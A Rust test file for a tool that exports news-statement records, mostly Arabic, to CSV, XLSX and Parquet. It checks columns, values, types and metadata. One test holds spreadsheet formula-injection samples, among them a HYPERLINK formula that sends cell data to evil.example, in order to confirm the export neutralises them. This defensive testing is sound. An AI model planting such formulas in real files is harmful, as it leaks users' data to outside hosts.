//! CSV, XLSX and Parquet: columns, types and values, read back. That they say the same in the programs of others is
//! checked by `.ci/exports`.

use arrow_array::cast::AsArray;
use arrow_array::types::{Date32Type, Int64Type, TimestampMicrosecondType};
use arrow_array::{Array, RecordBatch};
use bytes::Bytes;
use calamine::{Data, Reader, Xlsx};
use parquet::arrow::arrow_reader::{ParquetRecordBatchReader, ParquetRecordBatchReaderBuilder};
use parquet::basic::Compression;
use parquet::file::metadata::ParquetMetaData;
use rawi::record::Words;
use rawi_archive::{Entry, Statement};
use rawi_export::{Format, Options};
use rawi_table::Csv;

use crate::{docs, export, fixture};

fn header() -> Vec<String> {
    let csv = export(Format::Csv, Options::default(), &[]);
    csv::Reader::from_reader(csv.as_slice()).headers().unwrap().iter().map(Into::into).collect()
}

/// The cells of one column, one a statement of the fixture.
fn csv_column(name: &str) -> Vec<String> {
    let place = header().iter().position(|c| c == name).unwrap();
    let csv = export(Format::Csv, Options::default(), &fixture::entries());
    csv::Reader::from_reader(csv.as_slice()).records().map(|r| r.unwrap()[place].to_owned()).collect()
}

fn open(bytes: Vec<u8>) -> (ParquetMetaData, ParquetRecordBatchReader) {
    let builder = ParquetRecordBatchReaderBuilder::try_new(Bytes::from(bytes)).unwrap();
    (builder.metadata().as_ref().clone(), builder.build().unwrap())
}

fn table() -> RecordBatch {
    open(export(Format::Parquet, Options::default(), &fixture::entries())).1.next().unwrap().unwrap()
}

#[test]
fn names_that_rawi_read_has_mean_the_same() {
    // All of crates/rawi-cli/src/render/csv.rs but numbers inside a record: statement, who_id, parent.
    let read = "id title url outlet date who kind role cue speaker content addressee via setting type act confidence \
                cue_span speaker_span content_span addressee_span via_span setting_span text_sha256";
    let missing: Vec<&str> = read.split_whitespace().filter(|name| !header().iter().any(|h| h == name)).collect();
    assert!(missing.is_empty(), "{missing:?}");
}

#[test]
fn every_column_is_documented() {
    let page = docs("exports.md");
    let (_, section) = page.split_once("## Columns").unwrap();
    let (section, _) = section.split_once("\n## ").unwrap();
    let documented: Vec<&str> = section.lines().filter_map(|l| l.strip_prefix("| `")?.split_once('`')).map(|(name, _)| name).collect();
    assert_eq!(documented, header());
}

#[test]
fn cells_of_csv() {
    let cases = [
        ("statement_id", 0, "0a11c0de00000001-27"),
        ("id", 0, "sample/0a11c0de00000001"),
        ("published_on", 0, "2024-05-03"),
        ("published_at", 0, "2024-05-02T21:20:00Z"),
        ("who", 8, "ليلى حداد"),
        ("who_name", 8, "ليلى الحداد"),
        ("who_identity", 8, "2"),
        ("addressee", 0, "للصحافيين"),
        ("addressee_name", 0, "الصحافيون"),
        ("addressee_identity", 0, ""),
        ("content", 1, "سنستقبل أول سفينة | قبل نهاية الشهر"),
        ("via", 8, "إذاعة الجبل | مصدر مطلع | بيان للنقابة"),
        ("via_identity", 8, "11 |  | "),
        ("copies", 0, "0a11c0de00000099-12 | 0a11c0de00000098-3"),
        ("title", 2, "عنوان فيه \"اقتباس\"، وفاصلة, و|خط\nوسطر ثانٍ"),
        ("date", 2, "أمس"),
        ("published_on", 2, ""),
        ("who", 2, ""),
        ("confidence", 3, ""),
        ("content", 4, ""),
        ("content_span", 4, ""),
        ("published_on", 5, "2023-12-31"),
        ("published_at", 5, ""),
        ("parent_id", 6, "0a11c0de00000004-0"),
        ("added", 8, "2024-06-01T08:00:00Z"),
    ];
    for (name, row, expected) in cases {
        assert_eq!(csv_column(name)[row], expected, "{name} of row {row}");
    }
    let csv = String::from_utf8(export(Format::Csv, Options::default(), &fixture::entries())).unwrap();
    assert!(csv.starts_with("id,title,url,") && csv.ends_with("\r\n"));
}

/// The rows of a workbook, its header first.
fn sheet(entries: &[Entry]) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(export(Format::Xlsx, Options::default(), entries))).unwrap();
    book.worksheet_range("Sheet1").unwrap().rows().map(<[_]>::to_vec).collect()
}

#[test]
fn cells_of_xlsx() {
    let rows = sheet(&fixture::entries());
    let header: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
    assert_eq!(header, self::header());
    let cell = |name: &str, row: usize| rows[row + 1][header.iter().position(|c| c == name).unwrap()].clone();
    let words = |words: &str| Data::String(words.into());
    let cases = [
        ("statement_id", 0, words("0a11c0de00000001-27")),
        ("url", 0, words("https://example.org/أخبار/1?lang=ar")),
        ("content", 1, words("سنستقبل أول سفينة | قبل نهاية الشهر")),
        ("who_identity", 8, Data::Float(2.0)),
        ("via_identity", 8, words("11 |  | ")),
        ("confidence", 0, Data::Float(0.875)),
        ("confidence", 3, Data::Empty),
        ("title", 2, words("عنوان فيه \"اقتباس\"، وفاصلة, و|خط\nوسطر ثانٍ")),
        ("date", 2, words("أمس")),
        ("published_on", 2, Data::Empty),
    ];
    for (name, row, expected) in cases {
        assert_eq!(cell(name, row), expected, "{name} of row {row}");
    }
    let serial = |name: &str| if let Data::DateTime(date) = cell(name, 0) { date.as_f64() } else { panic!("{name} is no date") };
    // Day 45415 of spreadsheets is 2024-05-03; the instant is the evening before, in UTC.
    assert_eq!((serial("published_on"), serial("published_at")), (45_415.0, 45_414.0 + 76_800.0 / 86_400.0));
    assert_eq!(rows.len(), 10);
}

/// Case 67, and what else spreadsheets run.
#[test]
fn no_cell_is_run() {
    let mut entry = fixture::article("0a11c0de00000006", "-5 درجات");
    entry.article.given = "=1+1".into();
    entry.article.title = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"اضغط\")".into());
    entry.article.url = Some("@x".into());
    entry.article.outlet = Some("＝1".into());
    entry.article.author = Some("\t+1".into());
    entry.article.date = Some("-1+1".into());
    entry.article.origin = "+a.txt".into();
    let words = Words { content: vec!["-5 درجات".into()], ..Words::default() };
    entry.statements = vec![Statement { id: "0a11c0de00000006-0".into(), content: vec![[0, 8]], words, ..Statement::default() }];
    let entries = [entry];
    let row = |options: Options| -> Vec<String> {
        let csv = export(Format::Csv, options, &entries);
        csv::Reader::from_reader(csv.as_slice()).records().next().unwrap().unwrap().iter().map(Into::into).collect()
    };
    let (safe, raw) = (row(Options::default()), row(Options { csv: Csv { raw_cells: true, ..Csv::default() }, ..Options::default() }));
    let dangerous = ["id", "title", "url", "outlet", "author", "date", "origin", "content"];
    for (name, (safe, raw)) in header().iter().zip(safe.iter().zip(&raw)) {
        let expected = if dangerous.contains(&name.as_str()) { format!("'{raw}") } else { raw.clone() };
        assert_eq!(*safe, expected, "{name}");
        assert!(!safe.starts_with(['=', '+', '-', '@', '＝', '\t']), "{name}: {safe:?}");
    }
    let cells: Vec<String> = sheet(&entries)[1].iter().map(ToString::to_string).collect();
    for name in dangerous {
        let place = header().iter().position(|c| c == name).unwrap();
        assert_eq!(cells[place], raw[place], "{name}");
    }
}

#[test]
fn csv_for_excel_begins_with_a_byte_order_mark() {
    let options = Options { csv: Csv { bom: true, ..Csv::default() }, ..Options::default() };
    let (with, without) = (export(Format::Csv, options, &fixture::entries()), export(Format::Csv, Options::default(), &fixture::entries()));
    assert_eq!(with, [b"\xef\xbb\xbf".as_slice(), &without].concat());
}

/// Names and words in tables are without what nobody sees; identifiers stay as they are.
#[test]
fn no_direction_marks_in_tables() {
    let mut entry = fixture::article("0a11c0de00000007", "قال\u{200f} سليم");
    entry.article.given = "\u{200f}7".into();
    entry.article.title = Some("\u{2067}عنوان\u{2069}".into());
    let who = fixture::party(Some(1), "سليم\u{202c}", "\u{2067}سليم\u{2069}", Some("\u{200e}المدير"), rawi::record::Kind::Person);
    let words = Words { content: vec!["قال\u{200f} سليم".into()], ..Words::default() };
    let id = "0a11c0de00000007-0".to_owned();
    entry.statements = vec![Statement { id, content: vec![[0, 9]], who: Some(who), words, ..Statement::default() }];
    let entries = [entry];
    let csv = export(Format::Csv, Options::default(), &entries);
    let csv: Vec<String> = csv::Reader::from_reader(csv.as_slice()).records().next().unwrap().unwrap().iter().map(Into::into).collect();
    let xlsx: Vec<String> = sheet(&entries)[1].iter().map(ToString::to_string).collect();
    let parquet = open(export(Format::Parquet, Options::default(), &entries)).1.next().unwrap().unwrap();
    for (name, expected) in
        [("id", "\u{200f}7"), ("title", "عنوان"), ("who", "سليم"), ("who_name", "سليم"), ("role", "المدير"), ("content", "قال سليم")]
    {
        let place = header().iter().position(|c| c == name).unwrap();
        let column = parquet.column(place);
        let strings = column.as_list_opt::<i32>().map_or_else(|| column.clone(), |list| list.value(0));
        assert_eq!([&csv[place], &xlsx[place], strings.as_string::<i32>().value(0)], [expected; 3], "{name}");
    }
}

#[test]
fn types_of_parquet() {
    let span = "{start: Int64, end: Int64}";
    let list = |of: &str| format!("[{of}]");
    let named = |names: &'static str, kind: String| names.split_whitespace().map(move |n| (n, kind.clone()));
    let expected = named("outlet kind type act model", "Dictionary(Int32, Utf8)".into())
        .chain(named("revision who_identity addressee_identity", "Int64".into()))
        .chain(named("confidence", "Float64".into()))
        .chain(named("published_on", "Date32".into()))
        .chain(named("published_at added", "Timestamp(µs, \"UTC\")".into()))
        .chain(named("cue_span speaker_span addressee_span", span.into()))
        .chain(named("content_span via_span setting_span", list(span)))
        .chain(named("content via via_name setting copies article_copies", list("Utf8")))
        .chain(named("via_identity", list("Int64")));
    let schema = table().schema();
    for (name, kind) in expected {
        assert_eq!(shown(schema.field_with_name(name).unwrap().data_type()), kind, "{name}");
    }
    assert_eq!(schema.fields().iter().map(|f| f.name().as_str()).collect::<Vec<_>>(), header());
}

fn shown(kind: &arrow_schema::DataType) -> String {
    use arrow_schema::DataType::{List, Struct};
    match kind {
        List(element) => format!("[{}]", shown(element.data_type())),
        Struct(fields) => {
            let fields: Vec<String> = fields.iter().map(|f| format!("{}: {}", f.name(), shown(f.data_type()))).collect();
            format!("{{{}}}", fields.join(", "))
        }
        other => other.to_string(),
    }
}

#[test]
fn values_of_parquet() {
    let table = table();
    let column = |name: &str| table.column_by_name(name).unwrap().clone();
    assert_eq!(table.num_rows(), 9);
    for name in ["statement_id", "who", "title", "cue"] {
        let found: Vec<String> = column(name).as_string::<i32>().iter().map(|v| v.unwrap_or_default().to_owned()).collect();
        assert_eq!(found, csv_column(name), "{name}");
    }
    // 2024-05-03 is day 19846; the instant is on the day before, in UTC.
    assert_eq!(column("published_on").as_primitive::<Date32Type>().value(0), 19846);
    assert_eq!(column("published_at").as_primitive::<TimestampMicrosecondType>().value(0), 1_714_684_800_000_000);
    for (name, nulls) in [("published_on", 3), ("published_at", 7), ("who", 3), ("confidence", 1), ("cue_span", 1), ("content", 0)] {
        assert_eq!(column(name).null_count(), nulls, "{name}");
    }
    let spans = column("content_span");
    let expected: Vec<usize> = fixture::entries().iter().flat_map(|e| &e.statements).map(|s| s.content.len()).collect();
    let found: Vec<usize> = spans.as_list::<i32>().iter().map(|l| l.unwrap().len()).collect();
    assert_eq!(found, expected);
    let identities = column("via_identity");
    let chain = identities.as_list::<i32>().value(8);
    assert_eq!(chain.as_primitive::<Int64Type>().iter().collect::<Vec<_>>(), [Some(11), None, None]);
}

#[test]
fn what_a_parquet_file_says_of_itself() {
    let (metadata, _) = open(export(Format::Parquet, Options::default(), &fixture::entries()));
    let pairs = metadata.file_metadata().key_value_metadata().unwrap();
    let value = |key: &str| pairs.iter().find(|p| p.key == key).and_then(|p| p.value.as_deref());
    assert_eq!(value("format"), Some("rawi.statements.parquet/1"));
    assert_eq!(value("rawi"), Some(env!("CARGO_PKG_VERSION")));
    assert!(metadata.row_group(0).columns().iter().all(|c| c.compression() == Compression::LZ4_RAW));
}

#[test]
fn an_export_without_statements_is_a_table_without_rows() {
    let (metadata, mut reader) = open(export(Format::Parquet, Options::default(), &[]));
    assert_eq!(metadata.file_metadata().num_rows(), 0);
    assert!(reader.next().is_none());
    assert_eq!(export(Format::Csv, Options::default(), &fixture::entries()[1..2]), export(Format::Csv, Options::default(), &[]));
}
